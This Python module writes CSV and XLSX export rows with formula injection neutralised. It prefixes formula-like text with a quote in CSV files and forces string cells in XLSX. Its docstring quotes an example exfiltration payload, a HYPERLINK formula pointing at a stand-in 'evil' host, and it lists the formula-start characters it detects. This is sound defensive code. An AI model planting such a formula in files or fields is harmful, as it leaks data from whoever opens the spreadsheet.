"""Cells that a spreadsheet opens as text, never as a formula: the one writer of CSV and XLSX rows.

Excel and LibreOffice run a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula (and
a leading tab or carriage return can hide such a start), so a participant's name or free-text
answer like ``=HYPERLINK("https://evil/?"&A1)`` would run on a coordinator's laptop. Every export
writes its rows through this module:

* CSV: such a text gets a leading ``'``, which spreadsheets show as "this is text" (the CSV is
  for reading, not for importing back);
* XLSX: every text is a string cell, whatever it starts with, so the value reads back unchanged
  (programme exports import again as they were).

Numbers, dates and empty cells are written as they are.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from typing import Any

#: The first characters that make a spreadsheet read a cell as a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def csv_cell(value: Any) -> Any:
    """``value`` as a CSV cell: a formula-like text gets a leading ``'``; None is empty."""
    if value is None:
        return ""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def to_csv(header: Sequence[Any], rows: Iterable[Sequence[Any]]) -> bytes:
    """A CSV file in UTF-8 with a byte-order mark (so that Excel reads Cyrillic and č š ž)."""
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow([csv_cell(c) for c in header])
    writer.writerows([csv_cell(c) for c in row] for row in rows)
    return buffer.getvalue().encode("utf-8-sig")


def append_row(sheet: Any, values: Sequence[Any]) -> None:
    """Append a row to an openpyxl worksheet, every text as a string cell (never a formula)."""
    sheet.append(list(values))
    for cell in sheet[sheet.max_row]:
        if isinstance(cell.value, str) and cell.data_type != "s":
            cell.data_type = "s"
